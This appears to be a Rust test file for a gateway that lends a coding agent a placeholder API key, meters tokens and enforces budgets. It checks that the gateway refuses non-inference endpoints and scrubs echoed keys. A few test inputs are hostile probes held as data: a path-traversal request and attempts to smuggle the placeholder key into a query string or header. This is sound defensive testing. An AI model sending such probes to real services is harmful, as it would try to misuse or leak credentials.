//! The gateway against a local upstream: credentials swapped, replies streamed through
//! unbuffered and metered, retries counted, the budget enforced mid-run.

use std::sync::{Arc, Mutex};

use axum::body::Body;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper_util::client::legacy::Client;
use hyper_util::rt::TokioExecutor;

use super::*;

/// What the upstream saw: (path and query, headers).
type Seen = Arc<Mutex<Vec<(String, HeaderMap)>>>;

const SSE: &str = concat!(
    "event: message_start\n",
    "data: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-sonnet-4-5\",\"usage\":{\"input_tokens\":100,\"output_tokens\":1,\"cache_read_input_tokens\":20,\"cache_creation_input_tokens\":0}}}\n\n",
);
const SSE_END: &str = concat!(
    "event: message_delta\n",
    "data: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":7}}\n\n",
    "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
);

/// An upstream: `/v1/messages` streams [`SSE`], then waits for `release` before
/// [`SSE_END`]; a body holding `FAIL` gets a 500.
async fn upstream(seen: Seen, release: Arc<tokio::sync::Notify>) -> String {
    let app = axum::Router::new().fallback(move |uri: Uri, headers: HeaderMap, body: Bytes| {
        let (seen, release) = (Arc::clone(&seen), Arc::clone(&release));
        async move {
            seen.lock().unwrap().push((
                uri.path_and_query()
                    .map(|p| p.to_string())
                    .unwrap_or_default(),
                headers,
            ));
            if body.windows(4).any(|w| w == b"FAIL") {
                return (
                    StatusCode::INTERNAL_SERVER_ERROR,
                    "{\"type\":\"error\",\"error\":{\"type\":\"api_error\",\"message\":\"boom\"}}",
                )
                    .into_response();
            }
            if uri.path() != "/v1/messages" {
                return "{\"input_tokens\":3}".into_response();
            }
            let stream = async_stream(release);
            Response::builder()
                .header("content-type", "text/event-stream")
                .body(Body::from_stream(stream))
                .unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

fn async_stream(
    release: Arc<tokio::sync::Notify>,
) -> impl futures_util::Stream<Item = Result<Bytes, std::io::Error>> {
    futures_util::stream::unfold(0, move |step| {
        let release = Arc::clone(&release);
        async move {
            match step {
                0 => Some((Ok(Bytes::from(SSE)), 1)),
                1 => {
                    release.notified().await;
                    Some((Ok(Bytes::from(SSE_END)), 2))
                }
                _ => None,
            }
        }
    })
}

fn client() -> Client<hyper_util::client::legacy::connect::HttpConnector, Full<Bytes>> {
    Client::builder(TokioExecutor::new()).build_http()
}

fn post(url: String, key: &str, body: &str) -> hyper::Request<Full<Bytes>> {
    hyper::Request::post(url)
        .header("x-api-key", key)
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(body.to_owned())))
        .unwrap()
}

#[tokio::test]
async fn requests_carry_the_real_key_and_replies_stream_through_metered() {
    let seen: Seen = Arc::default();
    let release = Arc::new(tokio::sync::Notify::new());
    let up = upstream(Arc::clone(&seen), Arc::clone(&release)).await;
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: up.clone(),
            secrets: vec!["real-key-0123456789".into()],
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let placeholder = endpoint.placeholders()[0].clone();
    assert!(!placeholder.contains("real-key"));
    assert_eq!(endpoint.base_url(), format!("http://{}", endpoint.addr()));

    let body = r#"{"model":"claude-sonnet-4-5","stream":true,"messages":[]}"#;
    let reply = client()
        .request(post(
            format!("{}/v1/messages?beta=true", endpoint.base_url()),
            &placeholder,
            body,
        ))
        .await
        .unwrap();
    assert_eq!(reply.status(), 200);
    // The first event arrives while the upstream still holds the rest: no buffering.
    let mut body = reply.into_body();
    let first = body.frame().await.unwrap().unwrap().into_data().unwrap();
    assert_eq!(first, Bytes::from(SSE));
    assert_eq!(
        endpoint.traffic().input_tokens,
        0,
        "not counted before its end"
    );
    release.notify_one();
    let rest = body.collect().await.unwrap().to_bytes();
    assert_eq!(rest, Bytes::from(SSE_END));

    let (path, headers) = seen.lock().unwrap()[0].clone();
    assert_eq!(path, "/v1/messages?beta=true");
    assert_eq!(headers["x-api-key"], "real-key-0123456789");
    assert_eq!(headers["accept-encoding"], "identity");
    assert!(headers["host"].to_str().unwrap().starts_with("127.0.0.1:"));

    // A path that is no model call passes through, unmetered.
    let counted = client()
        .request(post(
            format!("{}/v1/messages/count_tokens", endpoint.base_url()),
            &placeholder,
            "{}",
        ))
        .await
        .unwrap();
    assert_eq!(counted.status(), 200);
    let traffic = endpoint.finish().await;
    assert_eq!(
        (traffic.requests, traffic.other_requests, traffic.failed),
        (1, 1, 0)
    );
    assert_eq!(
        (
            traffic.input_tokens,
            traffic.output_tokens,
            traffic.cache_read_input_tokens
        ),
        (100, 7, 20)
    );
    assert_eq!(traffic.models, ["claude-sonnet-4-5"]);
    let cost = traffic.cost_usd.unwrap();
    assert!((cost - (100.0 * 3.0 + 7.0 * 15.0 + 20.0 * 0.3) / 1e6).abs() < 1e-12);
    assert_eq!(traffic.upstream, up.replace("localhost", "127.0.0.1"));
    assert_eq!(gateway.spent().0, 127);
    // The real key is a secret whatever held it.
    assert!(
        !crate::shared::redact::Redactor::new([])
            .redact("k=real-key-0123456789")
            .contains("0123456789")
    );
}

#[tokio::test]
async fn a_request_repeated_after_a_failure_is_counted_as_a_retry() {
    let seen: Seen = Arc::default();
    let release = Arc::new(tokio::sync::Notify::new());
    let up = upstream(Arc::clone(&seen), release).await;
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: format!("{up}/"),
            secrets: Vec::new(),
            ..RunGateway::default()
        })
        .await
        .unwrap();
    for _ in 0..2 {
        let reply = client()
            .request(post(
                format!("{}/v1/messages", endpoint.base_url()),
                "own-login-token",
                r#"{"model":"m","messages":["FAIL"]}"#,
            ))
            .await
            .unwrap();
        assert_eq!(reply.status(), 500);
        let _ = reply.into_body().collect().await;
    }
    let traffic = endpoint.finish().await;
    assert_eq!(
        (traffic.requests, traffic.retries, traffic.failed),
        (2, 1, 2)
    );
    // With no real key to put in, the agent's own credential passes through.
    assert_eq!(seen.lock().unwrap()[0].1["x-api-key"], "own-login-token");
}

#[tokio::test]
async fn a_request_that_would_cross_the_ceiling_gets_a_provider_error_and_stops_the_run() {
    let seen: Seen = Arc::default();
    let release = Arc::new(tokio::sync::Notify::new());
    let up = upstream(Arc::clone(&seen), Arc::clone(&release)).await;
    let gateway = Gateway::new(GatewayOptions {
        limits: Limits {
            max_cost_usd: None,
            max_tokens: Some(200),
        },
        ..GatewayOptions::default()
    });
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            secrets: Vec::new(),
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let send = || {
        client().request(post(
            format!("{}/v1/messages", endpoint.base_url()),
            "k",
            r#"{"model":"fake-model","stream":true,"messages":[]}"#,
        ))
    };
    release.notify_one();
    let first = send().await.unwrap();
    assert_eq!(first.status(), 200);
    let _ = first.into_body().collect().await;
    assert!(!endpoint.stopped().is_cancelled());
    // 127 spent; the next request re-sends at least 127: 254 > 200.
    let second = send().await.unwrap();
    assert_eq!(second.status(), 400);
    let body: serde_json::Value =
        serde_json::from_slice(&second.into_body().collect().await.unwrap().to_bytes()).unwrap();
    assert_eq!(body["type"], "error");
    assert_eq!(body["error"]["type"], "invalid_request_error");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--max-tokens 200 ceiling would be crossed"),
        "{body}"
    );
    assert!(endpoint.stopped().is_cancelled());
    assert_eq!(
        seen.lock().unwrap().len(),
        1,
        "the refused request never left"
    );
    let traffic = endpoint.finish().await;
    assert_eq!((traffic.requests, traffic.failed), (2, 1));
    assert!(
        traffic
            .budget
            .unwrap()
            .ends_with("aptitude's model gateway refused the run's model request 2")
    );
}

#[tokio::test]
async fn an_unreachable_upstream_is_a_provider_shaped_502() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}/v1", listener.local_addr().unwrap());
    drop(listener);
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: dead,
            secrets: Vec::new(),
            ..RunGateway::default()
        })
        .await
        .unwrap();
    assert!(endpoint.base_url().ends_with("/v1"));
    let reply = client()
        .request(post(
            format!("{}/responses", endpoint.base_url()),
            "k",
            r#"{"model":"gpt-5","input":[]}"#,
        ))
        .await
        .unwrap();
    assert_eq!(reply.status(), 502);
    let body: serde_json::Value =
        serde_json::from_slice(&reply.into_body().collect().await.unwrap().to_bytes()).unwrap();
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("could not reach http://127.0.0.1:"),
        "{body}"
    );
    assert_eq!(endpoint.finish().await.failed, 1);
    assert!(matches!(
        gateway
            .start(RunGateway {
                upstream: "ftp://x".into(),
                ..RunGateway::default()
            })
            .await,
        Err(GatewayError::Upstream { .. })
    ));
}

/// What the placeholder alone can do through the gateway: inference, nothing else. The
/// Files and Batches APIs, other methods, a placeholder put in a header the upstream might
/// quote back: each refused with a 403 and counted, never forwarded. An upstream that
/// quotes the real key anyway has it taken out of the reply (headers and body).
#[tokio::test]
async fn the_gateway_lends_the_key_only_for_inference() {
    const REAL: &str = "sk-ant-api03-REALKEY-0123456789abcdef";
    let seen: Seen = Arc::default();
    let app = {
        let seen = Arc::clone(&seen);
        axum::Router::new().fallback(move |uri: Uri, headers: HeaderMap| {
            let seen = Arc::clone(&seen);
            async move {
                let key = headers
                    .get("x-api-key")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or_default()
                    .to_owned();
                seen.lock().unwrap().push((uri.to_string(), headers));
                // An upstream that quotes the credential in its error, split over frames.
                let (a, b) = key.split_at(key.len() / 2);
                let chunks = vec![
                    Ok::<_, std::io::Error>(Bytes::from(format!(
                        "{{\"type\":\"error\",\"error\":{{\"message\":\"bad key {a}"
                    ))),
                    Ok(Bytes::from(format!("{b}\"}}}}"))),
                ];
                Response::builder()
                    .status(401)
                    .header("x-echo", key.clone())
                    .body(Body::from_stream(futures_util::stream::iter(chunks)))
                    .unwrap()
            }
        })
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            secrets: vec![REAL.into()],
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let ph = endpoint.placeholders()[0].clone();
    let base = endpoint.base_url();
    let send = |method: &str, path: &str, extra: Option<(&'static str, String)>| {
        let mut request = hyper::Request::builder()
            .method(method)
            .uri(format!("{base}{path}"))
            .header("x-api-key", ph.clone());
        if let Some((name, value)) = extra {
            request = request.header(name, value);
        }
        client().request(request.body(Full::new(Bytes::from_static(b"{}"))).unwrap())
    };
    for (method, path) in [
        ("GET", "/v1/files"),
        ("DELETE", "/v1/files/file_011CNha8iCJcU1wXNR6q4V8w"),
        ("POST", "/v1/messages/batches"),
        ("GET", "/v1/organizations/api_keys"),
        ("POST", "/v1/messages/../files"),
    ] {
        let reply = send(method, path, None).await.unwrap();
        assert_eq!(reply.status(), 403, "{method} {path}");
        let body = reply.into_body().collect().await.unwrap().to_bytes();
        let body = String::from_utf8_lossy(&body);
        assert!(body.contains("forwards only inference endpoints"), "{body}");
    }
    let beta = send("POST", "/v1/messages", Some(("anthropic-beta", ph.clone())))
        .await
        .unwrap();
    assert_eq!(beta.status(), 403);
    let query = send("POST", &format!("/v1/messages?key={ph}"), None)
        .await
        .unwrap();
    assert_eq!(query.status(), 403);
    assert!(seen.lock().unwrap().is_empty(), "nothing refused left");

    // A model call goes, with the key in its header only; the quoted key comes back
    // scrubbed.
    let reply = send("POST", "/v1/messages", Some(("anthropic-beta", "x".into())))
        .await
        .unwrap();
    assert_eq!(reply.status(), 401);
    assert!(!reply.headers()["x-echo"].to_str().unwrap().contains(REAL));
    // The reply that quoted the key ends as an error once its scrubbed part is sent.
    let (mut body, mut failed) = (Vec::new(), false);
    let mut stream = reply.into_body();
    while let Some(frame) = stream.frame().await {
        match frame {
            Ok(frame) => body.extend(frame.into_data().unwrap_or_default()),
            Err(_) => {
                failed = true;
                break;
            }
        }
    }
    let body = String::from_utf8_lossy(&body).into_owned();
    assert!(failed, "{body}");
    assert!(!body.contains(REAL), "{body}");
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].1["x-api-key"], REAL);
    assert_eq!(seen[0].1["anthropic-beta"], "x");
    let traffic = endpoint.finish().await;
    assert_eq!(traffic.refused, 7, "{traffic:?}");
    assert_eq!(traffic.key_echoes, 1, "{traffic:?}");
    assert!(
        traffic
            .refused_first
            .as_deref()
            .is_some_and(|r| r.starts_with("GET /v1/files: ")),
        "{traffic:?}"
    );
}

/// Once the budget refused a request, every later request of the run is refused too,
/// token counts included: a refusal is final for the run.
#[tokio::test]
async fn a_budget_refusal_is_final_for_the_run() {
    let seen: Seen = Arc::default();
    let release = Arc::new(tokio::sync::Notify::new());
    let up = upstream(Arc::clone(&seen), Arc::clone(&release)).await;
    let gateway = Gateway::new(GatewayOptions {
        limits: Limits {
            max_cost_usd: None,
            max_tokens: Some(100),
        },
        ..GatewayOptions::default()
    });
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let send = |path: &str| {
        client().request(post(
            format!("{}{path}", endpoint.base_url()),
            "k",
            r#"{"model":"fake-model","stream":true,"messages":[]}"#,
        ))
    };
    release.notify_one();
    let first = send("/v1/messages").await.unwrap();
    let _ = first.into_body().collect().await;
    // 127 tokens spent, over the 100 ceiling: nothing more goes, not even a token count.
    for path in [
        "/v1/messages/count_tokens",
        "/v1/messages",
        "/v1/messages/count_tokens",
    ] {
        let reply = send(path).await.unwrap();
        assert_eq!(reply.status(), 400, "{path}");
    }
    assert_eq!(seen.lock().unwrap().len(), 1);
    let traffic = endpoint.finish().await;
    assert!(traffic.budget.is_some());
    assert_eq!(traffic.refused, 2, "after the stop: {traffic:?}");
}

/// An upstream for what the real APIs do besides a plain stream: a reply cut in its middle
/// (`CUT`), a 401 with the headers that steer the agent's retries (`AUTH`), a gzip reply
/// although the gateway asked for identity (`GZIP`).
async fn unruly_upstream() -> String {
    let app = axum::Router::new().fallback(move |body: Bytes| async move {
        let has = |w: &str| body.windows(w.len()).any(|x| x == w.as_bytes());
        if has("CUT") {
            // The data, then (once it left: hyper drops what it has not flushed) the cut.
            let chunks = futures_util::stream::unfold(0, |step| async move {
                match step {
                    0 => Some((Ok(Bytes::from(SSE)), 1)),
                    1 => {
                        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                        Some((
                            Err(std::io::Error::new(
                                std::io::ErrorKind::ConnectionReset,
                                "upstream cut",
                            )),
                            2,
                        ))
                    }
                    _ => None,
                }
            });
            return Response::builder()
                .header("content-type", "text/event-stream")
                .header("request-id", "req_cut")
                .body(Body::from_stream(chunks))
                .unwrap();
        }
        if has("AUTH") {
            return Response::builder()
                .status(401)
                .header("content-type", "application/json")
                .header("x-should-retry", "false")
                .header("retry-after", "7")
                .header("request-id", "req_011CAuth")
                .header("set-cookie", "session=secret-cookie")
                .header("anthropic-organization-id", "org-private")
                .body(Body::from(
                    r#"{"type":"error","error":{"type":"authentication_error","message":"invalid x-api-key"},"request_id":"req_011CAuth"}"#,
                ))
                .unwrap();
        }
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gz, format!("{SSE}{SSE_END}").as_bytes()).unwrap();
        let packed = gz.finish().unwrap();
        let (a, b) = packed.split_at(packed.len() / 2);
        let chunks: Vec<Result<Bytes, std::io::Error>> =
            vec![Ok(Bytes::from(a.to_vec())), Ok(Bytes::from(b.to_vec()))];
        Response::builder()
            .header("content-type", "text/event-stream")
            .header("content-encoding", "gzip")
            .body(Body::from_stream(futures_util::stream::iter(chunks)))
            .unwrap()
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

/// What the agent got from one request: status, headers, the bytes before the body ended
/// or failed, and whether it failed.
async fn got(base: &str, body: &str) -> (u16, hyper::HeaderMap, Vec<u8>, bool) {
    let reply = client()
        .request(post(format!("{base}/v1/messages"), "k", body))
        .await
        .expect("the status line reaches the agent");
    let (parts, mut body) = reply.into_parts();
    let mut bytes = Vec::new();
    let mut failed = false;
    while let Some(frame) = body.frame().await {
        match frame {
            Ok(frame) => bytes.extend(frame.into_data().unwrap_or_default()),
            Err(_) => {
                failed = true;
                break;
            }
        }
    }
    (parts.status.as_u16(), parts.headers, bytes, failed)
}

/// Recorded and replayed as the real APIs answered: a cut reply gives its status and bytes
/// up to the cut, then a dropped connection (it replayed as nothing); a 401 keeps
/// `x-should-retry`, `retry-after` and `request-id` (Claude Code retried without them) but
/// never a cookie or an account id; a gzip reply is metered, and kept and replayed as the
/// plain text the agent got.
#[tokio::test]
async fn replies_are_recorded_and_replayed_with_their_status_headers_and_cut() {
    let up = unruly_upstream().await;
    let dir = tempfile::tempdir().unwrap();
    let gateway = Gateway::new(GatewayOptions {
        record: Some(RecordTo {
            dir: dir.path().join("r.cassettes"),
            prefix: "r.cassettes".into(),
        }),
        ..GatewayOptions::default()
    });
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let base = endpoint.base_url();
    let requests = [
        r#"{"model":"claude-sonnet-4-5","stream":true,"messages":["CUT"]}"#,
        r#"{"model":"claude-sonnet-4-5","stream":true,"messages":["AUTH"]}"#,
        r#"{"model":"claude-sonnet-4-5","stream":true,"messages":["GZIP"]}"#,
    ];
    let mut live = Vec::new();
    for body in requests {
        live.push(got(&base, body).await);
    }
    let (status, headers, bytes, failed) = &live[0];
    assert_eq!(*status, 200);
    assert_eq!(headers["request-id"], "req_cut");
    assert_eq!(
        bytes,
        SSE.as_bytes(),
        "the bytes before the cut reach the agent"
    );
    assert!(failed, "then the connection drops");
    let (status, headers, _, failed) = &live[1];
    assert_eq!((*status, *failed), (401, false));
    assert_eq!(headers["x-should-retry"], "false");
    let (status, headers, bytes, failed) = &live[2];
    assert_eq!((*status, *failed), (200, false));
    assert!(headers.get("content-encoding").is_none(), "{headers:?}");
    assert_eq!(bytes, format!("{SSE}{SSE_END}").as_bytes());
    let traffic = endpoint.finish().await;
    assert_eq!(
        (traffic.requests, traffic.failed, traffic.unmetered),
        (3, 2, 0),
        "the cut and the 401 failed; the gzip reply was metered: {traffic:?}"
    );
    assert_eq!(
        (traffic.input_tokens, traffic.output_tokens),
        (200, 8),
        "the cut reply's 100 in and 1 out, the 401's none, the gzip reply's 100 and 7: {traffic:?}"
    );
    let reference = traffic.cassette.clone().unwrap();
    let cassette = cassette::Cassette::read(dir.path(), &reference).unwrap();
    let auth = &cassette.exchanges[1];
    let names: Vec<&str> = auth.headers.iter().map(|(n, _)| n.as_str()).collect();
    assert!(names.contains(&"x-should-retry") && names.contains(&"retry-after"));
    assert!(!names.contains(&"set-cookie") && !names.contains(&"anthropic-organization-id"));
    assert!(cassette.exchanges[0].cut);
    assert_eq!(
        cassette.exchanges[2].reply,
        format!("{SSE}{SSE_END}").into_bytes()
    );

    // The replay: the same status, headers and bytes, the same cut; nothing upstream.
    let replaying = gateway
        .start(RunGateway {
            upstream: "http://127.0.0.1:9".into(),
            replay: Some(Replaying {
                cassette: Arc::new(cassette),
                miss: ReplayMiss::Error,
            }),
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let base = replaying.base_url();
    for (body, (status, headers, bytes, failed)) in requests.iter().zip(&live) {
        let (s, h, b, f) = got(&base, body).await;
        assert_eq!((s, &b, f), (*status, bytes, *failed), "{body}");
        for name in [
            "x-should-retry",
            "retry-after",
            "request-id",
            "content-type",
        ] {
            assert_eq!(h.get(name), headers.get(name), "{body}: {name}");
        }
        assert!(h.get("set-cookie").is_none());
    }
    let replayed = replaying.finish().await;
    assert_eq!(replayed.replayed, 3);
    assert!(replayed.divergence.is_none(), "{replayed:?}");
}

/// A reply asking for one `Skill` call, as the Messages API streams it.
const TOOL_SSE: &str = concat!(
    "event: message_start\n",
    "data: {\"type\":\"message_start\",\"message\":{\"model\":\"claude-sonnet-4-5\",\"usage\":{\"input_tokens\":100,\"output_tokens\":1}}}\n\n",
    "event: content_block_start\n",
    "data: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"tool_use\",\"id\":\"toolu_1\",\"name\":\"Skill\",\"input\":{}}}\n\n",
    "event: content_block_delta\n",
    "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"skill\\\":\\\"pdf\\\"}\"}}\n\n",
    "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
    "event: message_delta\n",
    "data: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"tool_use\"},\"usage\":{\"output_tokens\":9}}\n\n",
    "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
);

/// An upstream whose every reply asks for a tool call; counts its requests.
async fn tool_upstream(seen: Arc<std::sync::atomic::AtomicUsize>) -> String {
    let app = axum::Router::new().fallback(move || {
        let seen = Arc::clone(&seen);
        async move {
            seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            Response::builder()
                .header("content-type", "text/event-stream")
                .body(Body::from(TOOL_SSE))
                .unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

/// `stop: first_call`: once a reply asked for a tool call, the agent's next request is
/// held — never forwarded — and the run is told it decided; a run that is not stopped
/// early goes on as before.
#[tokio::test]
async fn a_run_stopped_at_its_first_call_sends_nothing_after_it() {
    use crate::spec::routing::Stop;
    for stop in [Stop::FirstCall, Stop::Never] {
        let seen = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let up = tool_upstream(Arc::clone(&seen)).await;
        let gateway = Gateway::new(GatewayOptions::default());
        let endpoint = gateway
            .start(RunGateway {
                upstream: up,
                stop,
                ..RunGateway::default()
            })
            .await
            .unwrap();
        let base = endpoint.base_url();
        let body = r#"{"model":"claude-sonnet-4-5","stream":true,"messages":[]}"#;
        let (status, _, bytes, _) = got(&base, body).await;
        assert_eq!((status, bytes), (200, TOOL_SSE.as_bytes().to_vec()));
        assert!(!endpoint.decided().is_cancelled());
        let next = tokio::spawn(async move { got(&base, body).await });
        if stop == Stop::FirstCall {
            tokio::time::timeout(
                std::time::Duration::from_secs(10),
                endpoint.decided().cancelled(),
            )
            .await
            .expect("the held request marks the run decided");
            assert!(
                !next.is_finished(),
                "the request after the decision is held"
            );
            let traffic = endpoint.finish().await;
            assert_eq!(traffic.requests, 1, "{traffic:?}");
            assert!(
                next.await.is_err_and(|e| e.is_panic()),
                "its connection ends with the run"
            );
        } else {
            next.await.unwrap();
            let traffic = endpoint.finish().await;
            assert_eq!(traffic.requests, 2, "{traffic:?}");
        }
        let forwarded = seen.load(std::sync::atomic::Ordering::SeqCst);
        let wanted = if stop == Stop::FirstCall { 1 } else { 2 };
        assert_eq!(forwarded, wanted, "requests that reached the upstream");
    }
}

/// A Claude Code run's gateway lends exactly the Anthropic rows of the scope table: its
/// model list (Claude Code's gateway discovery) goes with the real key; 40 Chat Completions
/// streams, which its meter would not be asked to read, are refused and counted, none
/// forwarded.
#[tokio::test]
async fn a_run_is_lent_only_the_protocols_its_agent_speaks() {
    const REAL: &str = "sk-ant-api03-REALKEY-scope-0123456789";
    let seen: Seen = Arc::default();
    let up = upstream(Arc::clone(&seen), Arc::new(tokio::sync::Notify::new())).await;
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            secrets: vec![REAL.into()],
            protocols: vec![protocol::Protocol::Anthropic],
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let (ph, base) = (endpoint.placeholders()[0].clone(), endpoint.base_url());
    let list = hyper::Request::get(format!("{base}/v1/models?limit=1000"))
        .header("x-api-key", ph.clone())
        .body(Full::new(Bytes::new()))
        .unwrap();
    assert_eq!(client().request(list).await.unwrap().status(), 200);
    let chat = r#"{"model":"gpt-5.5","stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
    let requests =
        (0..40).map(|_| client().request(post(format!("{base}/v1/chat/completions"), &ph, chat)));
    for reply in futures_util::future::join_all(requests).await {
        let reply = reply.unwrap();
        assert_eq!(reply.status(), 403);
        let body = reply.into_body().collect().await.unwrap().to_bytes();
        let body = String::from_utf8_lossy(&body);
        assert!(
            body.contains(
                "an endpoint of OpenAI Chat Completions, which this run's agent does not speak"
            ),
            "{body}"
        );
    }
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "only the model list went upstream");
    assert_eq!(seen[0].0, "/v1/models?limit=1000");
    assert_eq!(seen[0].1["x-api-key"], REAL);
    let traffic = endpoint.finish().await;
    assert_eq!((traffic.refused, traffic.requests), (40, 0), "{traffic:?}");
    assert_eq!(traffic.other_requests, 1);
}

/// An upstream that answers every model call at once with a whole Anthropic stream of
/// [`SSE`] and [`SSE_END`] (127 tokens), after `delay_ms`, counting the calls.
async fn counting_upstream(calls: Arc<std::sync::atomic::AtomicUsize>, delay_ms: u64) -> String {
    let app = axum::Router::new().fallback(move || {
        let calls = Arc::clone(&calls);
        async move {
            calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            tokio::time::sleep(std::time::Duration::from_millis(delay_ms)).await;
            Response::builder()
                .header("content-type", "text/event-stream")
                .body(Body::from(format!("{SSE}{SSE_END}")))
                .unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

/// 40 requests at once under `--max-tokens 600` (each capped at 100 output tokens, each
/// reply 127 tokens) spent 4,160 tokens when each was admitted against the same unspent
/// budget. With worst cases reserved, the spend stays within one reply of the ceiling and
/// the rest are refused without leaving.
#[tokio::test]
async fn requests_at_once_can_not_spend_past_the_ceiling_together() {
    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let up = counting_upstream(Arc::clone(&calls), 30).await;
    let gateway = Gateway::new(GatewayOptions {
        limits: Limits {
            max_cost_usd: None,
            max_tokens: Some(600),
        },
        ..GatewayOptions::default()
    });
    let mut endpoints = Vec::new();
    for _ in 0..4 {
        endpoints.push(
            gateway
                .start(RunGateway {
                    upstream: up.clone(),
                    ..RunGateway::default()
                })
                .await
                .unwrap(),
        );
    }
    let body = r#"{"model":"fake-model","max_tokens":100,"stream":true,"messages":[]}"#;
    let requests = (0..40).map(|i| {
        let url = format!("{}/v1/messages", endpoints[i % 4].base_url());
        async move {
            let reply = client().request(post(url, "k", body)).await.unwrap();
            let status = reply.status().as_u16();
            let _ = reply.into_body().collect().await;
            status
        }
    });
    let statuses = futures_util::future::join_all(requests).await;
    let ok = statuses.iter().filter(|s| **s == 200).count();
    let (spent, _) = gateway.spent();
    assert!(spent <= 600 + 127, "spent {spent} of 600 ({ok} answered)");
    assert_eq!(spent, ok as u64 * 127);
    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), ok);
    assert!(
        ok >= 4 && statuses.iter().all(|s| *s == 200 || *s == 400),
        "{statuses:?}"
    );
}

/// A streamed Chat Completions request that did not ask for its usage is made to, so its
/// reply is metered; the agent's own request is what the cassette and the witness saw.
#[tokio::test]
async fn a_chat_stream_is_made_to_report_its_usage() {
    let bodies: Arc<Mutex<Vec<String>>> = Arc::default();
    let app = {
        let bodies = Arc::clone(&bodies);
        axum::Router::new().fallback(move |body: Bytes| {
            let bodies = Arc::clone(&bodies);
            async move {
                let body = String::from_utf8_lossy(&body).into_owned();
                let usage = body.contains(r#""include_usage":true"#);
                bodies.lock().unwrap().push(body);
                let mut sse = String::from(
                    "data: {\"model\":\"gpt-5.5\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi\"},\"finish_reason\":\"stop\"}]}\n\n",
                );
                if usage {
                    sse.push_str("data: {\"model\":\"gpt-5.5\",\"choices\":[],\"usage\":{\"prompt_tokens\":12,\"completion_tokens\":3,\"total_tokens\":15}}\n\n");
                }
                sse.push_str("data: [DONE]\n\n");
                Response::builder()
                    .header("content-type", "text/event-stream")
                    .body(Body::from(sse))
                    .unwrap()
            }
        })
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}/v1", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let gateway = Gateway::new(GatewayOptions::default());
    let endpoint = gateway
        .start(RunGateway {
            upstream: up,
            protocols: vec![protocol::Protocol::Chat],
            ..RunGateway::default()
        })
        .await
        .unwrap();
    let reply = client()
        .request(post(
            format!("{}/chat/completions", endpoint.base_url()),
            "k",
            r#"{"model":"gpt-5.5","stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
        ))
        .await
        .unwrap();
    assert_eq!(reply.status(), 200);
    let _ = reply.into_body().collect().await;
    let traffic = endpoint.finish().await;
    assert_eq!((traffic.input_tokens, traffic.output_tokens), (12, 3));
    assert_eq!(traffic.unmetered, 0);
    // GPT-5.5: $5 in, $30 out per million.
